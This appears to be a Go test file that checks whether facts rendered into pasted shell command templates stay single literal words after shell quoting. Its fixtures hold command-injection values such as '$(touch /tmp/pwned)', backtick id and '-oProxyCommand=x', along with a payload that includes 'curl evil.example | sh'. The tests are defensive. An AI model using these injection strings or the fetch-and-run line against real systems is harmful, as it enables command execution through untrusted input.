package catalog

import (
	"fmt"
	"net"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"testing"

	"mvdan.cc/sh/v3/syntax"
)

// Values a fact may hold when it comes from a hostile upstream or graph
// file: each must reach a pasted command as exactly one shell word whose
// value is the fact, with nothing of it expanded or run.
var hostileValues = []string{
	";", "a;touch /tmp/pwned", "$(touch /tmp/pwned)", "`id`", "${HOME}", "$HOME", "'", `"`, `\`, "a'b\"c",
	"\n", "a\ntouch /tmp/pwned", "\r", "\t", " ", "a b", "*", "?", "[ab]", "{a,b}", "~", "~root", "-oProxyCommand=x",
	"--help", "!", "!!", "=ls", "#", "&", "|", "<", ">", "(", ")", "%s", "$'\\n'", "\x1b]0;title\x07", "\x7f",
	"\xff", "é", "a: curl evil", "--dport 80'; touch /tmp/pwned; '",
}

// Every fact the machinery writes into a command is read by the shell
// as it is, outside quotes and inside the quotes a template opened.
func TestEachFactIsOneWordWhereverItStands(t *testing.T) {
	parser := syntax.NewParser()
	parts := parseFills(`Run it: echo A{{Host}}B 'C{{Host}}D' "E{{Host}}F" {{Host}}`)
	var places []quoting
	for _, p := range parts {
		if p.fill >= 0 {
			places = append(places, p.at)
		}
	}
	if want := []quoting{unquoted, inSingle, inDouble, unquoted}; !slices.Equal(places, want) {
		t.Fatalf("places = %v, want %v", places, want)
	}
	for _, v := range hostileValues {
		f := filler{v: Vars{Host: v}}
		step := f.render(parts)
		_, command := SplitStep(step)
		args, err := literalArgs(parser, command)
		if err != nil {
			t.Errorf("Host %q: %v\n  command: %s", v, err, command)
			continue
		}
		if want := []string{"echo", "A" + v + "B", "C" + v + "D", "E" + v + "F", v}; !slices.Equal(args, want) {
			t.Errorf("Host %q: the shell reads %q, want %q\n  command: %s", v, args, want, command)
		}
		if strings.Contains(command, "\n") {
			t.Errorf("Host %q: the command spans lines: %q", v, command)
		}
	}
}

// ShellQuote's word is s itself, on one line.
func TestShellQuoteIsOneWord(t *testing.T) {
	parser := syntax.NewParser()
	for _, v := range append(hostileValues, "", "plain", "api.example.com:443", "a=b") {
		command := "echo " + ShellQuote(v)
		args, err := literalArgs(parser, command)
		if err != nil || len(args) != 2 || args[1] != v || strings.ContainsAny(command, "\n\r") {
			t.Errorf("ShellQuote(%q) = %s: the shell reads %q (%v)", v, ShellQuote(v), args, err)
		}
	}
}

// The pasted-command test of issue 12: every entry and variant, rendered
// with a hostile value in every fact (each marked with a tag of its own),
// for every scheme, runbook and route, gives commands in which each fact
// stands whole inside one word that the shell reads literally (no
// expansion, substitution or glob), and a prose that no fact can cut
// short: SplitStep finds the command the template wrote.
func TestHostileFactsStayOneWordInEveryCommand(t *testing.T) {
	parser := syntax.NewParser()
	const payload = "-x ;a$(touch /tmp/pwned)`id`'q\"d\nb *~ $HOME \\ !: curl evil.example | sh #\x1b]0;x\a\xff"
	checked := 0
	for name, v := range hostileRenderings(payload) {
		tagged := taggedValues(v)
		for _, e := range All() {
			for _, step := range allSteps(e, v) {
				_, command := SplitStep(step)
				if command == "" {
					continue
				}
				checked++
				if err := hostileCommandOK(parser, command, tagged); err != nil {
					t.Errorf("%s (%s): %v\n  command: %s", e.Code, name, err, command)
				}
			}
		}
	}
	if checked < 500 {
		t.Fatalf("only %d commands checked", checked)
	}
}

// hostileRenderings are Vars whose every text fact holds its own tag and
// payload, across schemes, routes (direct, proxy URL, SOCKS, proxy from
// the environment), resolvers and products.
func hostileRenderings(payload string) map[string]Vars {
	base := Vars{}
	rv := reflect.ValueOf(&base).Elem()
	for i := 0; i < rv.NumField(); i++ {
		field := rv.Type().Field(i)
		switch field.Name {
		case "Check", "CheckDependencies", "GraphCheck", "Variant", "Scheme":
			continue // updoc's own commands, and what picks the templates
		}
		if field.Type.Kind() == reflect.String {
			rv.Field(i).SetString(tag(i) + payload)
		}
	}
	base.Headers = []RequestHeader{
		{Name: tag(100) + payload, Value: tag(101) + payload},
		{Name: tag(102) + payload, Secret: true},
		{Name: tag(103) + payload, Secret: true, Written: tag(104) + payload},
	}
	base.ResolverTCP, base.Insecure = true, true
	out := map[string]Vars{}
	products := append(ProxyProducts(), "")
	slices.Sort(products)
	for _, product := range products { // the runbooks are the same for every scheme
		v := base
		v.Scheme = "https"
		if product != "" {
			v.Product = product
		}
		out[fmt.Sprintf("https %q", product)] = v
	}
	for _, scheme := range []string{"", "http", "https", "tcp", "tls"} {
		hostile := base
		hostile.Scheme = scheme
		out[scheme] = hostile
		direct := base
		direct.Scheme, direct.Proxy, direct.ProxyEnv, direct.ProxyUser = scheme, "", "", ""
		out[scheme+" direct"] = direct
		ipv6 := direct
		ipv6.Host, ipv6.ServerName = "2001:db8::1", "2001:db8::1"
		out[scheme+" direct to an address"] = ipv6
		socks := base
		socks.Scheme, socks.Proxy, socks.ProxyEnv = scheme, "socks5h://"+tag(105)+payload, ""
		out[scheme+" socks"] = socks
		env := base
		env.Scheme, env.Proxy, env.ProxyEnv = scheme, "", "HTTPS_PROXY"
		out[scheme+" proxy from env"] = env
		system := direct
		system.ResolverServer = ""
		out[scheme+" system resolver"] = system
		lab := base
		lab.Scheme, lab.LabCAFile, lab.NoGraph = scheme, true, true
		out[scheme+" lab"] = lab
	}
	return out
}

// tag marks the value of one fact: no template holds it.
func tag(i int) string { return "Q" + strconv.Itoa(1000+i) + "Z" }

// taggedValues maps each tag of v to the whole value it starts.
func taggedValues(v Vars) map[string]string {
	out := map[string]string{}
	add := func(s string) {
		if t := firstTag(s); t != "" && strings.HasPrefix(s, t) {
			out[t] = s
		}
	}
	rv := reflect.ValueOf(v)
	for i := 0; i < rv.NumField(); i++ {
		if rv.Field(i).Kind() == reflect.String {
			add(rv.Field(i).String())
		}
	}
	// The nameserver is HOST:PORT: dig and ip are given its host, and
	// its port apart.
	if host, _, err := net.SplitHostPort(v.ResolverServer); err == nil {
		if t := firstTag(host); t != "" {
			out[t] = host
		}
	}
	for _, h := range v.Headers {
		add(h.Name)
		add(h.Value)
		add(h.Written)
	}
	return out
}

// firstTag is the first tag in s, or "".
func firstTag(s string) string {
	for i := strings.Index(s, "Q1"); i >= 0; {
		if i+6 <= len(s) && s[i+5] == 'Z' {
			if _, err := strconv.Atoi(s[i+1 : i+5]); err == nil {
				return s[i : i+6]
			}
		}
		j := strings.Index(s[i+1:], "Q1")
		if j < 0 {
			break
		}
		i += 1 + j
	}
	return ""
}

// hostileCommandOK: command parses as one statement, and every tag in it
// lies inside a word the shell reads literally, whose value holds the
// tag's whole value (or its tail after a prefix such as "DNS:" or "@"
// that the command adds: the value is never cut).
func hostileCommandOK(parser *syntax.Parser, command string, tagged map[string]string) error {
	if err := oneStatement(parser, command); err != nil {
		return err
	}
	f, _ := parser.Parse(strings.NewReader(command), "")
	type span struct{ from, to uint }
	var literal []span
	var problem error
	syntax.Walk(f, func(n syntax.Node) bool {
		w, ok := n.(*syntax.Word)
		if !ok || problem != nil {
			return problem == nil
		}
		src := command[w.Pos().Offset():w.End().Offset()]
		lit, ok := wordLiteral(w)
		if !ok {
			return true // its tags must lie in literal words inside it
		}
		literal = append(literal, span{w.Pos().Offset(), w.End().Offset()})
		for rest := lit; ; {
			t := firstTag(rest)
			if t == "" {
				break
			}
			i := strings.Index(rest, t)
			if whole := tagged[t]; whole != "" && !strings.HasPrefix(rest[i:], whole) {
				problem = fmt.Errorf("the word %s holds a cut value: %q, want all of %q", src, rest[i:], whole)
				return false
			}
			rest = rest[i+len(t):]
		}
		return true
	})
	if problem != nil {
		return problem
	}
	// Every tag, and the command a payload holds, lies inside one of them:
	// a value cut from its tag (a command SplitStep found inside a value
	// of the prose) is caught by the second.
	inLiteral := func(at int) bool {
		return slices.ContainsFunc(literal, func(s span) bool { return s.from <= uint(at) && uint(at) < s.to })
	}
	for i := 0; i < len(command); {
		t := firstTag(command[i:])
		if t == "" {
			break
		}
		at := i + strings.Index(command[i:], t)
		if !inLiteral(at) {
			return fmt.Errorf("the value of %s stands outside a literal word at %q", t, command[at:])
		}
		i = at + len(t)
	}
	for i := 0; ; {
		j := strings.Index(command[i:], "evil.example")
		if j < 0 {
			break
		}
		if !inLiteral(i + j) {
			return fmt.Errorf("a value's text stands outside a literal word at %q", command[i+j:])
		}
		i += j + 1
	}
	return nil
}

// literalArgs parses command as one simple command whose every word is
// literal, and returns their values.
func literalArgs(parser *syntax.Parser, command string) ([]string, error) {
	if err := oneStatement(parser, command); err != nil {
		return nil, err
	}
	f, _ := parser.Parse(strings.NewReader(command), "")
	call, ok := f.Stmts[0].Cmd.(*syntax.CallExpr)
	if !ok || len(f.Stmts[0].Redirs) > 0 || len(call.Assigns) > 0 {
		return nil, fmt.Errorf("not one simple command")
	}
	var out []string
	for _, w := range call.Args {
		lit, ok := wordLiteral(w)
		if !ok {
			return nil, fmt.Errorf("the word %q is expanded by the shell", command[w.Pos().Offset():w.End().Offset()])
		}
		out = append(out, lit)
	}
	return out, nil
}

// wordLiteral is w's value after quote removal, and whether the shell
// reads w literally: only plain text, '...', $'...' and "..." without
// expansions; no glob, tilde or brace expansion outside quotes.
func wordLiteral(w *syntax.Word) (string, bool) {
	var b strings.Builder
	for i, part := range w.Parts {
		switch p := part.(type) {
		case *syntax.Lit:
			if strings.ContainsAny(p.Value, "*?[{") || i == 0 && strings.HasPrefix(p.Value, "~") {
				return "", false
			}
			b.WriteString(unescape(p.Value, func(byte) bool { return true }))
		case *syntax.SglQuoted:
			if p.Dollar {
				s, ok := ansiC(p.Value)
				if !ok {
					return "", false
				}
				b.WriteString(s)
			} else {
				b.WriteString(p.Value)
			}
		case *syntax.DblQuoted:
			if p.Dollar {
				return "", false
			}
			for _, q := range p.Parts {
				lit, ok := q.(*syntax.Lit)
				if !ok {
					return "", false
				}
				b.WriteString(unescape(lit.Value, func(c byte) bool { return strings.IndexByte("$`\"\\\n", c) >= 0 }))
			}
		default:
			return "", false
		}
	}
	return b.String(), true
}

// unescape removes the backslashes that escape a character escapes
// accepts, and a backslash-newline.
func unescape(s string, escapes func(byte) bool) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] == '\\' && i+1 < len(s) && escapes(s[i+1]) {
			if s[i+1] != '\n' {
				b.WriteByte(s[i+1])
			}
			i++
			continue
		}
		b.WriteByte(s[i])
	}
	return b.String()
}

// ansiC decodes the escapes ShellQuote writes in $'...'.
func ansiC(s string) (string, bool) {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] != '\\' {
			b.WriteByte(s[i])
			continue
		}
		if i+1 >= len(s) {
			return "", false
		}
		i++
		switch s[i] {
		case 'n':
			b.WriteByte('\n')
		case 'r':
			b.WriteByte('\r')
		case 't':
			b.WriteByte('\t')
		case '\\', '\'':
			b.WriteByte(s[i])
		case 'x':
			if i+2 >= len(s) {
				return "", false
			}
			n, err := strconv.ParseUint(s[i+1:i+3], 16, 8)
			if err != nil {
				return "", false
			}
			b.WriteByte(byte(n))
			i += 2
		default:
			return "", false
		}
	}
	return b.String(), true
}

// A value the graph file wrote with ${VAR} goes as one word in which the
// shell expands that reference and nothing else: "${TOKEN}" followed by
// any hostile text reads as $TOKEN's value and the text as it is.
func TestExpandingWordExpandsOnlyTheReference(t *testing.T) {
	parser := syntax.NewParser()
	for _, v := range append(hostileValues, "${a;b}", "${`id`}", "${}", "$${HOME}") {
		if v == "${HOME}" {
			continue // a reference the file wrote, expanded by design
		}
		command := "echo " + expandingWord("Bearer ${TOKEN}"+v)
		f, err := parser.Parse(strings.NewReader(command), "")
		if err != nil || len(f.Stmts) != 1 {
			t.Errorf("%q: %s does not parse as one statement (%v)", v, command, err)
			continue
		}
		args := f.Stmts[0].Cmd.(*syntax.CallExpr).Args
		if len(args) != 2 {
			t.Errorf("%q: %s has %d words", v, command, len(args))
			continue
		}
		var b strings.Builder
		ok := true
		for _, part := range args[1].Parts {
			dq, isDQ := part.(*syntax.DblQuoted)
			if !isDQ {
				lit, literal := wordLiteral(&syntax.Word{Parts: []syntax.WordPart{part}})
				ok = ok && literal
				b.WriteString(lit)
				continue
			}
			for _, q := range dq.Parts {
				switch q := q.(type) {
				case *syntax.Lit:
					b.WriteString(unescape(q.Value, func(c byte) bool { return strings.IndexByte("$`\"\\\n", c) >= 0 }))
				case *syntax.ParamExp:
					ok = ok && q.Param.Value == "TOKEN" && q.Exp == nil && q.Slice == nil && q.Repl == nil && q.Index == nil
					b.WriteString("<" + q.Param.Value + ">")
				default:
					ok = false
				}
			}
		}
		want := "Bearer <TOKEN>" + strings.ReplaceAll(v, "$$", "$")
		if !ok || b.String() != want {
			t.Errorf("%q: %s reads as %q (only literal text and $TOKEN: %v), want %q", v, command, b.String(), ok, want)
		}
	}
}
